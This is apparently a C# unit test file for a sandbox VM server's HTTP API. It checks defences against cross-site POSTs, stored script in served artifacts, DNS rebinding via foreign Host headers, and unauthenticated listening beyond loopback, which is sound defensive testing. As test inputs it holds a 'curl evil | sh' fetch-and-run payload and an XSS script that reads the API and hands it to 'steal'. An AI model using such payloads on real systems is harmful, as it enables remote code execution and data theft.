using System.Net;
using System.Net.Http.Headers;
using System.Text;
using SandboxVM.Testing;

namespace SandboxVM.Server.Tests;

/// <summary>
/// What a browser or a stranger on the network can do to the API: cross-site simple POSTs, stored
/// script in artifacts, DNS rebinding through a foreign Host, a server listening on every interface
/// with nobody checking keys.
/// </summary>
[Trait("tier", "unit")]
public class HttpSurfaceTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static async Task AssertProblem(HttpResponseMessage response, HttpStatusCode status, string code)
    {
        string text = await response.Content.ReadAsStringAsync(Ct);
        Assert.True(status == response.StatusCode, $"expected {(int)status} {code}, got {(int)response.StatusCode}: {text}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var body = await ApiServer.BodyOf(response);
        Assert.Equal(code, body.GetProperty("code").GetString());
        Assert.Equal((int)status, body.GetProperty("status").GetInt32());
    }

    // A page on any site can send these without a CORS preflight: text/plain, a form, multipart.
    public static TheoryData<string, string> SimpleContentTypes => new()
    {
        { "/v1/run", "text/plain" },
        { "/v1/run", "application/x-www-form-urlencoded" },
        { "/v1/run", "multipart/form-data; boundary=x" },
        { "/v1/sandboxes", "text/plain" },
        { "/v1/tools/search", "text/plain" },
        { "/v1/tools/fetch", "text/plain" },
    };

    [Theory]
    [MemberData(nameof(SimpleContentTypes))]
    public async Task ACrossSiteSimplePost_IsRefused415_AndRunsNothing(string path, string contentType)
    {
        await using var server = await ApiServer.StartAsync();
        string json = path switch
        {
            "/v1/tools/search" => """{"query": "q"}""",
            "/v1/tools/fetch" => """{"url": "https://example.com/"}""",
            "/v1/sandboxes" => """{"template": "py"}""",
            _ => """{"template": "py", "code": "import os; os.system('curl evil | sh')"}""",
        };
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(json));
        content.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);

        var response = await server.SendAsync(HttpMethod.Post, path, content: content);

        await AssertProblem(response, HttpStatusCode.UnsupportedMediaType, "unsupported_media_type");
        var body = await ApiServer.BodyOf(response);
        Assert.Equal("application/json", body.GetProperty("expected").GetString());
        Assert.Contains("application/json", body.GetProperty("detail").GetString());
        Assert.Empty(server.Runtime.Vms); // no sandbox was started, nothing ran
    }

    [Fact]
    public async Task ASandboxRunOrKeepaliveWithATextBody_IsRefused415()
    {
        await using var server = await ApiServer.StartAsync();
        string id = await server.CreateSandboxAsync();

        var run = await server.SendAsync(HttpMethod.Post, $"/v1/sandboxes/{id}/run", content: new StringContent("""{"code": "print(1)"}""", Encoding.UTF8, "text/plain"));
        var keepalive = await server.SendAsync(HttpMethod.Post, $"/v1/sandboxes/{id}/keepalive", content: new StringContent("""{"timeout_s": 60}""", Encoding.UTF8, "text/plain"));

        await AssertProblem(run, HttpStatusCode.UnsupportedMediaType, "unsupported_media_type");
        await AssertProblem(keepalive, HttpStatusCode.UnsupportedMediaType, "unsupported_media_type");
        Assert.Equal(0, server.Runtime.Execs);
        // A keepalive without a body needs no content type; a JSON one still works.
        Assert.Equal(HttpStatusCode.OK, (await server.SendAsync(HttpMethod.Post, $"/v1/sandboxes/{id}/keepalive")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await server.PostJsonAsync($"/v1/sandboxes/{id}/run", """{"code": "print(1)"}""")).StatusCode);
    }

    [Theory]
    [InlineData("application/json")]
    [InlineData("application/json; charset=utf-8")]
    [InlineData("Application/JSON")]
    public async Task JsonContentTypes_AreAccepted(string contentType)
    {
        await using var server = await ApiServer.StartAsync();
        var content = new ByteArrayContent("""{"template": "py", "code": "print(1)"}"""u8.ToArray());
        content.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);

        var response = await server.SendAsync(HttpMethod.Post, "/v1/run", content: content);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(1, server.Runtime.Execs);
    }

    [Fact]
    public async Task Artifacts_AreServedAsAttachments_NeverAsPagesOfTheApisOrigin()
    {
        var runtime = new FakeAgentRuntime();
        runtime.InitialFiles["/tmp/outputs/r.html"] = "<script>fetch('/v1/sandboxes').then(r => r.text()).then(steal)</script>"u8.ToArray();
        runtime.InitialFiles["/tmp/outputs/img/logo.svg"] = """<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script></svg>"""u8.ToArray();
        await using var server = await ApiServer.StartAsync(runtime: runtime);
        string id = await server.CreateSandboxAsync();

        var html = await server.GetAsync($"/v1/sandboxes/{id}/artifacts/r.html");
        var svg = await server.GetAsync($"/v1/sandboxes/{id}/artifacts/img/logo.svg");
        var file = await server.GetAsync($"/v1/sandboxes/{id}/files?path=/tmp/outputs/r.html");

        foreach (var (response, name) in new[] { (html, "r.html"), (svg, "logo.svg"), (file, "r.html") })
        {
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var disposition = response.Content.Headers.ContentDisposition;
            Assert.NotNull(disposition);
            Assert.Equal("attachment", disposition.DispositionType);
            Assert.Equal(name, disposition.FileName?.Trim('"'));
            AssertHardened(response);
        }
        // The bytes are the artifact's, unchanged.
        Assert.StartsWith("<script>", await html.Content.ReadAsStringAsync(Ct));
    }

    [Theory]
    [InlineData("a\"b.html", "a_b.html")]
    [InlineData("x\\y.svg", "x_y.svg")]
    [InlineData("..html", "..html")]
    [InlineData("ümlaut.png", "ümlaut.png")]
    public async Task DownloadFileNames_AreSafe(string name, string expected)
    {
        var runtime = new FakeAgentRuntime();
        runtime.InitialFiles["/tmp/outputs/" + name] = "x"u8.ToArray();
        await using var server = await ApiServer.StartAsync(runtime: runtime);
        string id = await server.CreateSandboxAsync();

        var response = await server.GetAsync($"/v1/sandboxes/{id}/files?path={Uri.EscapeDataString("/tmp/outputs/" + name)}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var disposition = response.Content.Headers.ContentDisposition!;
        Assert.Equal("attachment", disposition.DispositionType);
        Assert.Equal(expected, disposition.FileNameStar ?? disposition.FileName?.Trim('"'));
        Assert.DoesNotContain('"', disposition.FileName?.Trim('"') ?? "");
    }

    [Fact]
    public async Task EveryAnswer_CarriesNosniffAndASandboxingPolicy()
    {
        await using var server = await ApiServer.StartAsync();

        foreach (var response in new[]
        {
            await server.GetAsync("/healthz"),
            await server.GetAsync("/v1/templates"),
            await server.GetAsync("/v1/sandboxes/sbx_unknown"),
            await server.GetAsync("/metrics"),
        })
        {
            AssertHardened(response);
        }
    }

    private static void AssertHardened(HttpResponseMessage response)
    {
        Assert.Equal("nosniff", string.Join(",", response.Headers.TryGetValues("X-Content-Type-Options", out var v) ? v : []));
        string csp = string.Join(",", response.Headers.TryGetValues("Content-Security-Policy", out var c) ? c : []);
        Assert.Contains("sandbox", csp);
        Assert.Contains("default-src 'none'", csp);
    }

    [Theory]
    [InlineData("evil.example")]
    [InlineData("evil.example:8000")]
    [InlineData("127.0.0.1.evil.example")]
    [InlineData("10.1.2.3")]
    public async Task AForeignHost_Is400_SoDnsRebindingReachesNothing(string host)
    {
        await using var server = await ApiServer.StartAsync();

        var response = await server.SendAsync(HttpMethod.Post, "/v1/run", content: ApiServer.Json("""{"template": "py", "code": "print(1)"}"""),
            configure: r => r.Headers.Host = host);

        await AssertProblem(response, HttpStatusCode.BadRequest, "invalid_host");
        Assert.Contains("AllowedHosts", (await ApiServer.BodyOf(response)).GetProperty("detail").GetString());
        Assert.Equal(0, server.Runtime.Execs);
    }

    [Theory]
    [InlineData("localhost")]
    [InlineData("127.0.0.1")]
    [InlineData("[::1]")]
    public async Task LoopbackNames_AreAcceptedOnALoopbackServer(string host)
    {
        await using var server = await ApiServer.StartAsync();
        int port = new Uri(server.BaseUrl).Port;

        var response = await server.SendAsync(HttpMethod.Get, "/healthz", configure: r => r.Headers.Host = $"{host}:{port}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    [Fact]
    public async Task ConfiguredHosts_ReplaceTheDefaults()
    {
        await using var server = await ApiServer.StartAsync(["--SandboxVM:AllowedHosts:0=sandbox.internal", "--SandboxVM:AllowedHosts:1=*.lab.example"]);

        Assert.Equal(HttpStatusCode.OK, (await server.SendAsync(HttpMethod.Get, "/healthz", configure: r => r.Headers.Host = "sandbox.internal")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await server.SendAsync(HttpMethod.Get, "/healthz", configure: r => r.Headers.Host = "a.lab.example:8000")).StatusCode);
        await AssertProblem(await server.SendAsync(HttpMethod.Get, "/healthz", configure: r => r.Headers.Host = "localhost"),
            HttpStatusCode.BadRequest, "invalid_host");
    }

    [Theory]
    [InlineData("http://0.0.0.0:0")]
    [InlineData("http://[::]:0")]
    [InlineData("http://*:0")]
    public void ListeningBeyondLoopback_WithoutKeys_IsRefused_SayingWhatToDo(string url)
    {
        var e = Assert.ThrowsAny<InvalidOperationException>(() => ApiServer.Build([], new FakeAgentRuntime(), new LogCapture(), url: url));

        Assert.Contains("API key", e.Message);
        Assert.Contains("--insecure-no-auth", e.Message);
        Assert.Contains("127.0.0.1", e.Message);
    }

    [Fact]
    public async Task ListeningBeyondLoopback_WithInsecureNoAuth_Starts_AndSaysSoLoudly()
    {
        var logs = new LogCapture();
        await using var app = ApiServer.Build(["--SandboxVM:InsecureNoAuth=true"], new FakeAgentRuntime(), logs, url: "http://0.0.0.0:0");
        await app.StartAsync(Ct);
        try
        {
            Assert.Contains(logs.Lines, l => l.StartsWith("Warning", StringComparison.Ordinal) && l.Contains("without API keys", StringComparison.Ordinal)
                && l.Contains("0.0.0.0", StringComparison.Ordinal));
        }
        finally
        {
            await app.StopAsync(CancellationToken.None);
        }
    }

    [Fact]
    public async Task ListeningBeyondLoopback_WithAKey_Starts()
    {
        await using var app = ApiServer.Build(["--SandboxVM:ApiKey=k-0123456789"], new FakeAgentRuntime(), new LogCapture(), url: "http://0.0.0.0:0");
        await app.StartAsync(Ct);
        await app.StopAsync(CancellationToken.None);
    }
}
